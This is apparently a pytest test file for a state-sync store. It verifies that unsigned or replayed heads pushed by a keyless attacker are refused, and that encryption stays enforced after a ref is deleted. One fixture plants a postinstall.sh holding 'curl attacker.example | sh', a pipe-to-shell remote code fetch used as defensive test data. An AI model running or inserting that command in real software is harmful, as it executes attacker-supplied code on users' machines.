"""Every read of a head is a trusted read (issue 19), on every backend, through the public API.

The attacker is a second opening of the same store with no signing key and no
trust policy: it can write anything a bucket credential allows. The victim
signs, trusts only its own key for ``prod`` and requires signatures.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from statesync.api import Store
from statesync.backends.base import OVERWRITE
from statesync.crypto import signing
from statesync.errors import IntegrityError, UsageError
from tests.helpers import write


def objects(store: Store) -> dict[str, bytes]:
    return {m.key: store.repo.backend.get(m.key)[0] for m in store.repo.backend.list("")}


@dataclass
class Scene:
    victim: Store
    attacker: Store
    work: Path
    tmp: Path


@pytest.fixture
def scene(any_store_url: str, tmp_path: Path) -> Iterator[Scene]:
    Store.init(any_store_url).close()
    public = signing.generate()
    victim = Store.open(any_store_url)
    victim.keys().trust("prod", public, True)
    victim = Store.open(any_store_url)  # with the policy loaded
    work = tmp_path / "work"
    write(work, "state.json", {"replicas": 2})
    victim.push(work, "prod")
    attacker = Store.open(any_store_url)
    attacker.repo.signer = None  # another machine: no key, no policy
    attacker.repo.trust = None
    yield Scene(victim, attacker, work, tmp_path)
    victim.close()
    attacker.close()


def plant(scene: Scene) -> str:
    evil = scene.tmp / "evil"
    write(evil, "state.json", {"replicas": 2})
    write(evil, "postinstall.sh", "curl attacker.example | sh\n")
    return scene.attacker.push(evil, "prod", force=True).snapshot


def test_save_and_load_object_refuse_an_untrusted_head(scene: Scene) -> None:
    plant(scene)
    before = objects(scene.victim)
    with pytest.raises(IntegrityError, match="not signed"):
        scene.victim.save_object({"step": 3}, "prod")
    with pytest.raises(IntegrityError, match="not signed"):
        scene.victim.load_object("prod")
    assert objects(scene.victim) == before


def test_show_diff_status_and_export_refuse_an_untrusted_head(scene: Scene) -> None:
    plant(scene)
    for call in (
        lambda: scene.victim.show("prod"),
        lambda: scene.victim.diff("prod", "prod"),
        lambda: scene.victim.status(scene.work, "prod"),
        lambda: scene.victim.export(scene.tmp / "b.json", env="prod"),
    ):
        with pytest.raises(IntegrityError, match="not signed"):
            call()
    assert not (scene.tmp / "b.json").exists()


def test_an_untrusted_snapshot_is_not_found_by_id_or_prefix(scene: Scene) -> None:
    evil = plant(scene)
    scene.victim.push(scene.work, "prod", force=True)
    for name in (evil[:8], evil[:20], evil):
        with pytest.raises(IntegrityError, match="trusted history"):
            scene.victim.show(name) if name != evil else scene.victim.load_object(snapshot=name)
    with pytest.raises(UsageError, match="at least 8 hex digits"):
        scene.victim.pull(scene.tmp / "out", snapshot=evil[:7])


def test_a_replayed_old_head_is_not_built_on(scene: Scene) -> None:
    backend = scene.victim.repo.backend
    old = backend.get("refs/prod")[0]
    write(scene.work, "state.json", {"replicas": 3})
    scene.victim.push(scene.work, "prod")
    backend.put("refs/prod", old, OVERWRITE)  # a signed, trusted, but older head
    write(scene.work, "state.json", {"replicas": 4})
    for rebase in (False, True):
        with pytest.raises(IntegrityError, match="went backwards"):
            scene.victim.push(scene.work, "prod", rebase=rebase)
    result = scene.victim.push(scene.work, "prod", force=True)
    assert result.serial == 3  # above every serial this machine saw, not old serial + 1
    assert scene.victim.log("prod")[0].snapshot == result.snapshot


def test_sticky_encryption_survives_a_deleted_ref(
    any_store_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STATESYNC_PASSPHRASE", "correct horse battery staple")
    store = Store.init(any_store_url)
    store.keys().init("dev", ["passphrase"])
    store = Store.open(any_store_url)
    store.save_object({"plan": "confidential-7"}, "dev", encrypt_all=True)
    store.repo.backend.delete("refs/dev")
    before = objects(store)
    with pytest.raises(IntegrityError, match="--encrypt all"):
        store.save_object({"plan": "confidential-8"}, "dev")
    assert objects(store) == before
    again = store.save_object({"plan": "confidential-8"}, "dev", encrypt_all=True)
    assert again.serial == 2
    assert all(b"confidential" not in body for body in objects(store).values())
